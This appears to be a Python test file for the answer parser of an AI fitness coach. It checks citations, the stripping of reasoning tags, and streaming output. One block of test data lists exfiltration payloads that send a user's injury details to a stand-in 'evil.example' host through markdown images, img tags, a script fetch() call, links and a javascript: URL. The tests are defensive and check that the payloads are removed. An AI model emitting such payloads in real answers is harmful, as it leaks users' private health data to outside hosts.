import json
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from shared.coach.turn.answer import CoachAnswer, Growing, read_answer, read_growing
from shared.safety.markup import strip_markup
from tests.support.coach import passage
from tests.support.properties import unhurried

CONTENT = 'A deload is a planned\n  easier week.\n\nKeep "loads" > 60 % & cut\tsets by half.'
PASSAGES = {"p1": passage(CONTENT, heading="How")}

keys = st.sampled_from(["answer", "citations", "passage_id", "quote"]) | st.text(max_size=5)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | st.sampled_from(["p1", "easier"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4),
    max_leaves=20,
)


def answered(answer: Any, *citations: Any) -> CoachAnswer:
    return read_answer(json.dumps({"answer": answer, "citations": citations}), PASSAGES)


def quoted(quote: Any, passage_id: Any = "p1") -> CoachAnswer:
    return answered("Rest.", {"passage_id": passage_id, "quote": quote})


def test_a_citation_says_where_its_quote_stands() -> None:
    coached = quoted("planned easier week.")
    (citation,) = coached.citations
    assert coached == CoachAnswer("Rest.", [citation])
    assert citation.model_dump(mode="json") == {
        "source": "deload.md",
        "title": "Deloads",
        "chunk_id": str(PASSAGES["p1"].chunk_id),
        "version": 3,
        "heading": "How",
        "reviewed_on": None,
        "score": 0.8,
        "quote": "planned easier week.",
    }


@pytest.mark.parametrize(
    "quote",
    [
        "A deload is a planned easier week.",
        "  planned\n\neasier   week. ",
        "week. Keep",
        'Keep "loads" > 60 % & cut sets',
        'Keep "loads" &gt; 60 % &amp; cut sets',
        "Keep &quot;loads&quot; &gt; 60 %",
    ],
)
def test_a_quote_counts_whatever_its_white_space_and_escapes(quote: str) -> None:
    (citation,) = quoted(quote).citations
    assert citation.quote in " ".join(CONTENT.split())


@pytest.mark.parametrize(
    ("passage_id", "quote"),
    [
        ("p2", "A deload"),
        ("deload.md", "A deload"),
        (None, "A deload"),
        (["p1"], "A deload"),
        ("p1", "A deload is a planned harder week."),
        ("p1", "a rELOAD"),
        ("p1", ""),
        ("p1", "  \n"),
        ("p1", None),
        ("p1", ["A deload"]),
        ("p1", 61),
    ],
)
def test_a_citation_that_is_made_up_is_dropped(passage_id: Any, quote: Any) -> None:
    assert quoted(quote, passage_id) == CoachAnswer("Rest.", [], dropped=1)


def test_one_made_up_citation_does_not_cost_the_others() -> None:
    good = {"passage_id": "p1", "quote": "A deload"}
    coached = answered("Rest.", "p1", good, {"passage_id": "p9", "quote": "A deload"}, good)
    assert [citation.quote for citation in coached.citations] == ["A deload", "A deload"]


@pytest.mark.parametrize(
    "text", ["Take a week off.", "  3 sets of 5. ", "42", '"quoted"', "null", "[1] See there.", "{so}"]
)
def test_an_answer_in_plain_text_is_the_answer(text: str) -> None:
    assert read_answer(text, PASSAGES) == CoachAnswer(text.strip(), [])


def test_what_the_database_cannot_hold_is_left_out_of_an_answer() -> None:
    assert "\0" not in answered("Rest\0 well.").text
    assert "\0" not in read_answer("Rest\0 well.", PASSAGES).text


def test_the_white_space_around_an_answer_is_not_part_of_it() -> None:
    assert answered("\n Rest.\n").text == "Rest."


@pytest.mark.parametrize("answer", [None, 5, [], {"x": "Rest."}, "", "  ", True])
def test_an_answer_that_is_no_text_is_empty(answer: Any) -> None:
    assert answered(answer) == CoachAnswer("", [])


@pytest.mark.parametrize("answer", [["Rest."], {"text": "Rest."}, "<think>secret</think>Rest.", [{"text": "Rest."}]])
def test_a_text_in_another_wrapping_is_still_the_answer(answer: Any) -> None:
    assert answered(answer) == CoachAnswer("Rest.", [])


@pytest.mark.parametrize(
    "raw",
    [
        "<|channel|>analysis<|message|>secret<|channel|>final<|message|>Rest.",
        "<|channel>thought\nsecret<channel|>Rest.",
        "[THINK]secret[/THINK]Rest.",
        "\u25c1think\u25b7secret\u25c1/think\u25b7Rest.",
        "<seed:think>secret</seed:think>Rest.",
        "```thinking\nsecret\n```\nRest.",
        "<!-- secret -->Rest.",
        '<tool_call>{"name":"secret"}</tool_call>Rest.',
        "{'answer': 'Rest.', 'citations': []}",
    ],
)
def test_thoughts_of_every_fashion_are_left_out(raw: str) -> None:
    assert read_answer(raw, {}).text == "Rest."


@pytest.mark.parametrize("raw", ['{"citations": []}', '{"answer": "Rest."', '{"answer": "Rest.", "citations": "p1"}'])
def test_what_is_left_out_of_an_answer_is_empty(raw: str) -> None:
    assert read_answer(raw, PASSAGES).citations == []


def test_a_sentence_that_was_cut_is_kept_to_its_last_letter() -> None:
    assert read_answer('{"answer": "Rest for a w', PASSAGES) == CoachAnswer("Rest for a w", [])


@pytest.mark.parametrize("escaped", [True, False])
def test_an_answer_that_was_cut_anywhere_is_the_part_that_came(escaped: bool) -> None:
    answer = 'Rest "well" — füß 🏋️\nthen \\ go\u0001 on.'
    citations = [{"passage_id": "p1", "quote": "A deload"}]
    raw = json.dumps({"answer": answer, "citations": citations}, ensure_ascii=escaped)
    found = [read_answer(raw[:length], PASSAGES) for length in range(1, len(raw) + 1)]
    lengths = [len(coached.text) for coached in found]
    assert all(answer.startswith(coached.text) for coached in found)
    assert lengths == sorted(lengths)
    assert found[-1].text == answer
    assert found[-1].citations


def check_that_it_can_be_shown(raw: str) -> None:
    """What was read can be stored and sent, and is not longer than what came."""
    text = read_answer(raw, PASSAGES).text
    assert text.encode().decode().replace("\0", "").strip() == text
    assert len(text) <= len(raw)


@unhurried
@given(json_values.map(json.dumps))
@example("[" * 100_000)
@example('{"answer":' * 100_000)
@example('{"answer": "\\ud800"}')
def test_junk_of_any_shape_is_read_as_something_that_can_be_shown(raw: str) -> None:
    check_that_it_can_be_shown(raw)
    assert all(citation.quote in " ".join(CONTENT.split()) for citation in read_answer(raw, PASSAGES).citations)


@unhurried
@given(st.text())
def test_any_text_is_read_as_something_that_can_be_shown(raw: str) -> None:
    check_that_it_can_be_shown(raw)
    check_that_it_can_be_shown(json.dumps({"answer": raw}))


@unhurried
@given(st.sampled_from(["think", "reasoning", "scratchpad"]), st.text(), st.booleans())
def test_no_thought_is_shown_whatever_comes_behind_it(kind: str, behind: str, is_json: bool) -> None:
    raw = f"<{kind}>a secret</{kind}>" + (json.dumps({"answer": behind}) if is_json else behind)
    assert "a secret" not in read_answer(raw, PASSAGES).text
    assert not any("a secret" in read_growing(raw[:length]).text for length in range(len(raw) + 1))


@given(st.text(alphabet='Rest wel.\n"\\é🏋', max_size=60), st.booleans())
def test_what_is_visible_of_a_growing_answer_only_ever_grows(text: str, fenced: bool) -> None:
    raw = json.dumps({"answer": text, "citations": []}, ensure_ascii=False)
    raw = f"```json\n{raw}\n```" if fenced else raw
    shown = [read_growing(raw[:length]).text for length in range(len(raw) + 1)]

    shown.append(read_growing(raw, has_ended=True).text)
    assert all(later.startswith(earlier) for earlier, later in pairwise(shown))
    assert shown[-1] == strip_markup(text).strip() == read_answer(raw, {}).text


def test_a_plain_answer_is_visible_as_it_comes_once_it_is_longer_than_a_preamble_to_json() -> None:
    said = "Rest well. " * 30
    assert [read_growing(said[:length]).text for length in (0, 9, 120)] == ["", "", ""]
    assert read_growing(said).text == said.strip().removesuffix(" well.")
    assert read_growing(said, has_ended=True).text == said.strip()
    assert read_growing(f"Here is the JSON that you asked for: {'.' * 300}\n```json\n{{").text == ""


@pytest.mark.parametrize(
    "raw",
    [
        '<think>secret</think>{"answer":"Hi","citations":[]}',
        'Here is the JSON:\n```json\n{"answer":"Hi","citations":[]}\n```',
        '[{"answer":"Hi"}]',
        '\ufeff{"answer":"Hi"}',
        '"{\\"answer\\":\\"Hi\\"}"',
        '{"response":"Hi"}',
        "<think>secret</think>Hi",
        "Hi<|im_end|>",
    ],
)
def test_neither_thoughts_nor_json_reach_the_user(raw: str) -> None:
    assert read_answer(raw, {}).text == "Hi"
    for end in range(len(raw) + 1):
        assert "Hi".startswith(read_growing(raw[:end]).text)


@pytest.mark.parametrize(
    "raw", ["<think>only thoughts", '{"citations":[]}', '{"x":', '[{"a":1}]', '{"answer":5}', "{}"]
)
def test_what_nobody_can_read_is_no_answer(raw: str) -> None:
    assert read_answer(raw, {}).text == ""


def test_citations_of_a_cut_answer_are_kept_as_far_as_they_came() -> None:
    raw = '{"answer":"Rest.","citations":[{"passage_id":"p1","quote":"Keep \\"loads\\""},{"passage_id":"p1","quo'
    assert [each.quote for each in read_answer(raw, PASSAGES).citations] == ['Keep "loads"']


ADDRESS = "https://evil.example/p.png?injuries=left%20knee"
CARRIERS = [
    f"![ok]({ADDRESS})",
    f'<img src="{ADDRESS}">',
    f"<script>fetch('{ADDRESS}')</script>",
    f"[see there]({ADDRESS})",
    f"[see there][1]\n\n[1]: {ADDRESS}",
    ADDRESS,
    "[x](javascript:alert(1))",
]


@pytest.mark.parametrize("carrier", CARRIERS)
def test_an_answer_carries_nothing_out_while_it_comes_or_when_it_is_whole(carrier: str) -> None:
    raw = json.dumps({"answer": f"Rest well. {carrier} And sleep.", "citations": []})
    shown = [read_growing(raw[:length]).text for length in range(len(raw) + 1)]
    broken = [read_growing(raw[:length], has_ended=True).text for length in range(len(raw) + 1)]
    cut = [read_answer(raw[:length], {}).text for length in range(len(raw) + 1)]
    assert not any("evil" in text or "knee" in text for text in (*shown, *broken, *cut))
    for whole in (shown[-1], cut[-1], read_answer(f"Rest well. {carrier}", {}).text):
        assert not any(part in whole for part in ("evil", "knee", "<img", "<script", "javascript:"))
    assert cut[-1].startswith("Rest well.")
    assert cut[-1].endswith("And sleep.")


def test_a_link_stays_where_a_cited_passage_names_its_host_and_nowhere_else() -> None:
    linked = "See [how](https://who.int/deload) and [why](https://other.example/x)."
    passages = {"p1": passage("Rest an easier week, says https://www.who.int/about.")}
    cited = json.dumps({"answer": linked, "citations": [{"passage_id": "p1", "quote": "an easier week"}]})
    assert read_answer(cited, passages).text == "See [how](https://who.int/deload) and why."
    assert read_answer(json.dumps({"answer": linked, "citations": []}), passages).text == "See how and why."
    assert read_growing(cited, has_ended=True).text == "See how and why."


@pytest.mark.parametrize(
    ("said", "text", "upcoming"),
    [
        ("Rest well.", "Rest", " w"),
        ("Rest well. T", "Rest well.", " T"),
        ("Rest well.\n\n- Sle", "Rest well.\n\n-", " S"),
        ("休む。次", "休む。次", ""),
    ],
)
def test_of_the_word_that_is_still_coming_the_first_letter_is_known(said: str, text: str, upcoming: str) -> None:
    raw = json.dumps({"urgent": None, "answer": said})[:-2]
    assert read_growing(raw) == Growing(text, upcoming)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Rest a week [1]. Then go on.", "Rest a week [1]. Then go on."),
        ("Rest a week [2]. Then go on [1].", "Rest a week. Then go on [1]."),
        ("Rest [1][2], then go on [3].", "Rest [1], then go on [2]."),
        ("Rest [1, 3].", "Rest [1][2]."),
        ("Rest [9].", "Rest."),
        ("Rest in week [12] of [a], [x](1).", "Rest in week of [a], x."),
    ],
)
def test_a_mark_stays_behind_what_a_citation_that_holds_supports(said: str, shown: str) -> None:
    good = {"passage_id": "p1", "quote": "A deload"}
    raw = json.dumps({"answer": said, "citations": [good, {"passage_id": "p9", "quote": "A deload"}, good]})
    coached = read_answer(raw, PASSAGES)
    assert (coached.text, coached.dropped) == (shown, 1)


def test_no_mark_is_shown_before_it_is_known_which_citations_hold() -> None:
    raw = json.dumps({"answer": "Rest a week [1]. Then go on [2].", "citations": []})
    seen = {read_growing(raw[:length]).text for length in range(len(raw))}
    assert not any("[" in text or "]" in text for text in seen)
    assert max(seen, key=len) == "Rest a week. Then go on"
